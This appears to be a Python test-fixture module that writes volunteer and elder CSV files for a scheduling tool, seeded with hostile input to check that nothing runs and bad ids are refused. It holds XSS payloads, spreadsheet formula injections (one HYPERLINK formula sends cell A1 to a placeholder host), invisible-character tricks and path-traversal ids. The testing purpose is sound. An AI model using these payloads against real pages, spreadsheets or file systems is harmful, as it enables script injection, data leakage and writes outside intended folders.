"""Hostile but ordinary-looking worlds: what a stranger's spreadsheet may hold.

* :func:`hostile_names_world`: a small piece of Minle (12 volunteers, 24 elders) whose ids
  are odd but allowed (``V&1``, ``V#2``, ``志愿者 3``, ``V"<i>4``...) and whose names,
  communities, addresses and phones carry HTML, SVG and ``javascript:`` payloads, formula
  prefixes, right-to-left overrides, zero-width characters and 10,000-character names.
  Everything must plan; nothing may run.
* :func:`hostile_id_world`: the same piece with one volunteer id that must be refused (a
  path, an absolute path, a Windows path, a leading dot, an invisible character, too long).

Each script payload, if it ever ran, would set ``window.__pwned`` (the browser tests read
it) and would show as raw markup in a page (the file tests look for it).
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

MINLE = Path(__file__).resolve().parents[2] / "scenarios" / "minle"

#: What a script payload sets if it runs.
FLAG = "__pwned"

#: Text that runs as script if a page or a map label takes it as HTML.
SCRIPT_PAYLOADS = (
    f'<img src=x onerror="window.{FLAG}=1">',
    f"<svg/onload=window.{FLAG}=1>",
    f'"><script>window.{FLAG}=1</script>',
    f"javascript:window.{FLAG}=1",
)
#: Text that a spreadsheet runs as a formula if it is written as one.
FORMULA_PAYLOADS = ('=HYPERLINK("http://example.invalid/?"&A1,"点这里")', "+1+1",
                    "@SUM(1+1)", "-2+3")
#: Text that hides or turns around what is shown.
INVISIBLE_PAYLOADS = ("王\u202e五六", "张\u200b三")
#: A name of 10,000 characters.
LONG_NAME = "李" * 10_000

#: Markup that must never appear raw in a page (its escaped form is fine).
RAW_MARKERS = ("<img src=x", "<svg/onload", "<script>window.")

#: Ids that are odd but allowed: they must plan, and links to them must work.
ODD_VOLUNTEER_IDS = ("V&1", "V#2", "志愿者 3", 'V"<i>4', "V%41", "V?6")
ODD_ELDER_IDS = ("E&1", "E#2", "老人 3", "E<b>4")

#: Ids that are bad input, by what is wrong with them.
BAD_IDS = {
    "relative path": "../../../../x/PWNED",
    "absolute path": "/tmp/PWNED",
    "windows path": "..\\..\\PWNED",
    "leading dot": ".PWNED",
    "right-to-left override": "V\u202eLMTH.1",
    "zero-width space": "V\u200b1",
    "too long": "V" * 65,
    "windows device": "CON",
    "drive letter": "C:PWNED",
    "trailing dot": "PWNED.",
}

VOLUNTEERS, ELDERS = 12, 24


def _piece() -> dict[str, pd.DataFrame]:
    """The first volunteers and elders of Minle, and the relations between them."""
    read = lambda kind: pd.read_csv(MINLE / f"{kind}.csv", dtype=str,  # noqa: E731
                                    keep_default_na=False)
    volunteers, elders = read("volunteers").head(VOLUNTEERS), read("elders").head(ELDERS)
    relations = read("relations")
    relations = relations[relations["volunteer_id"].isin(volunteers["volunteer_id"])
                          & relations["elder_id"].isin(elders["elder_id"])]
    return {"volunteers": volunteers.copy(), "elders": elders.copy(),
            "relations": relations.reset_index(drop=True)}


def _rename(tables: dict[str, pd.DataFrame], column: str, new: dict[str, str]) -> None:
    for table in tables.values():
        if column in table.columns:
            table[column] = table[column].map(lambda v: new.get(v, v))


def _write(tables: dict[str, pd.DataFrame], folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for kind, table in tables.items():
        paths[kind] = folder / f"{kind}.csv"
        table.to_csv(paths[kind], index=False)
    return paths


def hostile_names_world(folder: Path) -> dict[str, Path]:
    """Write the world with hostile names (and odd ids) into ``folder``; its files."""
    tables = _piece()
    vols, elds = tables["volunteers"], tables["elders"]
    _rename(tables, "volunteer_id", dict(zip(vols["volunteer_id"][:len(ODD_VOLUNTEER_IDS)],
                                             ODD_VOLUNTEER_IDS, strict=True)))
    _rename(tables, "elder_id", dict(zip(elds["elder_id"][:len(ODD_ELDER_IDS)],
                                         ODD_ELDER_IDS, strict=True)))
    texts = [*SCRIPT_PAYLOADS, *FORMULA_PAYLOADS, *INVISIBLE_PAYLOADS, LONG_NAME]
    vols["name"] = [texts[i % len(texts)] for i in range(len(vols))]
    elds["name"] = [texts[(i + 3) % len(texts)] for i in range(len(elds))]
    elds.loc[elds.index[:4], "address"] = list(SCRIPT_PAYLOADS)
    elds.loc[elds.index[4:8], "phone"] = list(FORMULA_PAYLOADS)
    vols.loc[vols.index[:2], "community"] = [SCRIPT_PAYLOADS[0], SCRIPT_PAYLOADS[1]]
    elds.loc[elds.index[:2], "community"] = [SCRIPT_PAYLOADS[0], SCRIPT_PAYLOADS[1]]
    return _write(tables, folder)


def hostile_id_world(folder: Path, bad_id: str) -> dict[str, Path]:
    """Write the world with the first volunteer's id replaced by ``bad_id``; its files."""
    tables = _piece()
    first = tables["volunteers"]["volunteer_id"].iloc[0]
    _rename(tables, "volunteer_id", {first: bad_id})
    return _write(tables, folder)


def scenario(folder: Path, files: dict[str, Path], weeks: int = 1) -> Path:
    """A scenario file beside the world: pairing and a schedule of ``weeks`` weeks."""
    path = folder / "scenario.toml"
    path.write_text('name = "hostile"\n[inputs]\n'
                    + "".join(f'{kind} = "{p.name}"\n' for kind, p in files.items())
                    + f"[schedule]\nstart = 2026-03-30\nweeks = {weeks}\n"
                    + "[solver]\ntime_limit = 20\n", encoding="utf-8")
    return path


def tree(root: Path) -> set[Path]:
    """Every file and folder under ``root`` (to compare before and after)."""
    return set(root.rglob("*"))
